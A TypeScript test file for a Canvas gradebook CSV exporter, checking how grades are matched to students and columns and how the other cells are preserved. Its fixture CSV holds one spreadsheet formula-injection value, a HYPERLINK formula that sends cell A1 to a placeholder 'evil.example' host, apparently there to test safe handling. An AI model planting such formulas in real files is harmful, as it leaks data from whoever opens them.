import { parse } from 'csv-parse/sync';
import { describe, expect, test } from 'vitest';
import { UserError } from '../../../../graders/engine/errors.ts';
import { canvasCsv } from '../../../../graders/engine/reports/gradebook/canvas.ts';
import { sampleGradebook, student } from './sample-gradebook.ts';
import { smallGradebook } from './small-gradebook.ts';

// As lib/gradebook_exporter.rb writes it, with posting by hand, a column of notes and totals.
const EXPORTED = `Student,ID,SIS User ID,SIS Login ID,Section,Notes,ex1: Requêtes (11),ex10 (12),Traitement de fichiers en parallèle (13),Imported Assignments Current Score,Final Score
,,,,,,Manual Posting,,,,
    Points Possible,,,,,,20.00,5.00,100.00,(read only),(read only)
"=""=HYPERLINK(""http://evil.example/?""&A1,""Ada"")""",1,-1001,ada,A and B,"a ""note"",
two lines",,,,90,90
"Dupont, Jean",2,20264106,jean,A,,3,4,5,1,1
"Dupont, Jean",3,,jean-2@school.example,A,,,,,,
"sara, The Other",4,nobody-knows,other,A,,1,1,1,1,1
Zoé,5,20263122,zoe,A,,EX,,N/A,,
UNREAD,6,,,A,,7,8,9,,
"Student, Test",7,,,A,,,,,,
`;

const read = (text: string, delimiter = ','): string[][] =>
  parse(text, { bom: true, delimiter, relax_column_count: true });

describe('without an exported file', () => {
  // `row_has_student_headers?`, `last_student_info_column`, `check_for_non_student_row`.
  test('its first rows are those that the importer looks for', () => {
    const [header = [], points = []] = read(canvasCsv(sampleGradebook(), undefined).text);
    expect(header.slice(0, 5)).toEqual(['Student', 'ID', 'SIS User ID', 'SIS Login ID', 'Section']);
    expect(points[0]).toContain('Points Possible');
    expect(points.slice(5)).toEqual(['20', '30', '10']);
  });

  test('whoever Canvas would take for its row of points is left out', () => {
    const book = smallGradebook();
    const [ann, bob] = book.students;
    if (ann === undefined || bob === undefined) throw new Error('two students');
    const named = { ...ann, student: student('ann', { name: 'Points Possible' }) };
    const { text, leftOut } = canvasCsv({ ...book, students: [named, bob] }, undefined);
    expect(read(text).map(([name]) => name)).toEqual(['Student', '    Points Possible', 'Bob']);
    expect(leftOut).toMatchObject([{ file: 'canvas.csv', why: 'reserved-name' }]);
  });

  test('no grade is an empty cell', () => {
    const rows = read(canvasCsv(sampleGradebook(), undefined).text);
    expect(rows.at(-1)?.slice(5)).toEqual(['', '', '']);
  });
});

describe('an exported file', () => {
  const { text, leftOut } = canvasCsv(sampleGradebook(), EXPORTED);
  const before = read(EXPORTED);
  const after = read(text);
  const why = leftOut.map((one) => [one.student?.key, one.exercise, one.why]);

  test('is filled in where a row and a column are known', () => {
    const grades = after.map((row) => [row[1], row[6], row[8]]);
    expect(grades.filter(([id]) => ['1', '2', '3'].includes(id ?? ''))).toEqual([
      ['1', '20', '25.5'],
      ['2', '11', '19'],
      ['3', '0', '19'],
    ]);
  });

  test('keeps every other cell, its rows and their order', () => {
    const others = (rows: string[][]) => rows.map((row) => row.toSpliced(8, 1).toSpliced(6, 1));
    expect(others(after)).toEqual(others(before));
    const [same] = ['4', '5', '6', '7', ''].map(
      (id) => (rows: string[][]) => rows.filter((row) => row[1] === id && row[0] !== ''),
    );
    expect(same?.(after)).toEqual(same?.(before));
  });

  test('keeps what a person decided in Canvas, and takes no grade away', () => {
    expect(after.find((row) => row[1] === '5')?.slice(6, 9)).toEqual(['EX', '', 'N/A']);
    expect(after.find((row) => row[1] === '6')?.slice(6, 9)).toEqual(['7', '8', '9']);
    expect(why).toContainEqual(['zoe', 'ex1-requests', 'kept']);
    expect(why).toContainEqual(['zoe', 'ex2-thread-pool', 'kept']);
  });

  test('says who is not in it, and what to look at', () => {
    expect(why).toContainEqual(['sara', undefined, 'no-row']);
    expect(why).toContainEqual([undefined, 'ex4-speed', 'no-column']);
    expect(why).toContainEqual([undefined, 'ex2-thread-pool', 'points-differ']);
    expect(why).not.toContainEqual([undefined, 'ex1-requests', 'points-differ']);
  });

  test('gives nobody the grade of somebody of the same name', () => {
    const nameless = EXPORTED.replace('20264106', '').replace('jean-2@school.example', '');
    const told = canvasCsv(sampleGradebook(), nameless);
    expect(read(told.text).filter(([name]) => name === 'Dupont, Jean')).toEqual(
      read(nameless).filter(([name]) => name === 'Dupont, Jean'),
    );
    expect(told.leftOut.filter((one) => one.student?.name === 'Jean Dupont')).toMatchObject([
      { why: 'same-row' },
      { why: 'same-row' },
    ]);
  });

  test.for([
    ['Canvas’s own number is that of somebody else', { id: '4', email: undefined }, 'no-row'],
    ['two ids name two rows', { id: '20264106', email: 'other' }, 'two-rows'],
    ['two students name one row', { id: 'nobody-knows', email: 'other' }, undefined],
  ] as const)('is not filled in where %s', ([, ids, expected]) => {
    const book = smallGradebook();
    const [ann, bob] = book.students;
    if (ann === undefined || bob === undefined) throw new Error('two students');
    const students = [
      { ...ann, student: student('ann', ids) },
      { ...bob, student: student('bob', expected === undefined ? ids : { id: '6' }) },
    ];
    const told = canvasCsv({ ...book, students }, EXPORTED);
    const wanted = expected === undefined ? ['same-row', 'same-row'] : [expected];
    const persons = told.leftOut.filter((one) => one.student !== undefined);
    expect(persons.map((one) => one.why)).toEqual(wanted);
  });

  test('is filled in by Canvas’s own number where the name is the same, or no other number is there', () => {
    const sheet =
      'Student,ID,SIS User ID,Section,ex1\n"x, Ann",1,u1,A,\nAnn,2,u2,A,\nAnn,3,u3,A,\nC,4,,A,\n';
    const filledIn = (id: string) => {
      const book = smallGradebook();
      const [ann] = book.students;
      if (ann === undefined) throw new Error('a student');
      const named = { ...ann, student: student('ann', { name: 'Ann', id, email: undefined }) };
      const told = canvasCsv({ ...book, students: [named] }, sheet);
      return read(told.text).flatMap((row) => (row[4] === '1.5' ? [row[1]] : []));
    };
    expect(['1', '2', '3', '4'].map(filledIn)).toEqual([[], ['2'], ['3'], ['4']]);
  });

  test('may have semicolons, a byte order mark, and names in two columns', () => {
    const german =
      '\ufeffLastName;FirstName;ID;Section;ex1-requests (1)\r\n    Points Possible;;;;20,00\r\nDupont;Bob;9;A;\r\n';
    const book = smallGradebook();
    const bob = book.students[1];
    if (bob === undefined) throw new Error('two students');
    const named = { ...bob, student: student('bob', { name: 'bob DUPONT' }) };
    const told = canvasCsv({ ...book, students: [named] }, german);
    expect(told.text).toBe(german.replace('Bob;9;A;', 'Bob;9;A;0'));
  });

  test.for([
    ['two columns begin with ex1', 'ex1 a (1),ex1 b (2)', 'two-columns'],
    ['only ex10 is there', 'ex10 (1)', 'no-column'],
    ['Canvas computes it', 'ex1 Current Score', 'no-column'],
  ] as const)('is not filled in where %s', ([, columns, expected]) => {
    const sheet = `Student,ID,SIS Login ID,Section,${columns}\nAnn,1,,A,,\n`;
    const told = canvasCsv(smallGradebook(), sheet);
    expect(told.leftOut.map((one) => one.why)).toContain(expected);
    expect(read(told.text)[1]?.slice(4).join('')).toBe('');
  });

  test('prefers the column that is called exactly as the exercise', () => {
    const sheet = 'Student,ID,Section,ex1 b (2),ex1-requests (1)\nAnn,1,A,,\n';
    expect(read(canvasCsv(smallGradebook(), sheet).text)[1]).toEqual(['Ann', '1', 'A', '', '1.5']);
  });

  test.for([
    ['is empty', '', 'Student'],
    ['is another file', 'key,name,id\nada,Ada,1\n', 'Student'],
    ['has no ids', 'Student,Section,ex1\nAnn,A,\n', 'ID'],
    ['has no sections', 'Student,ID,ex1\nAnn,1,\n', 'Section'],
    ['is no CSV', 'Student,ID,Section\n"Ann,1,A\n', 'CSV'],
  ] as const)('that %s is for the person to mend', ([, sheet, missing]) => {
    const wrong = () => canvasCsv(smallGradebook(), sheet);
    expect(wrong).toThrow(UserError);
    expect(wrong).toThrow(expect.objectContaining({ values: { missing } }));
  });
});
